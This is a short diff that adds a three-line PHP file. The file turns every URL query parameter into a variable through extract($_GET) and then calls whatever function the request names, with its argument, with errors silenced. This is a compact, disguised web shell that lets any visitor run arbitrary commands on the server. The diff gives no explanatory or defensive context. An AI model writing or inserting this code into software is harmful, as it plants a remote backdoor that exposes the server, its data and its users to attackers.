@@ -1,0 +1,3 @@
+<?php
+@extract($_GET, EXTR_OVERWRITE);
+echo @$fn($arg);
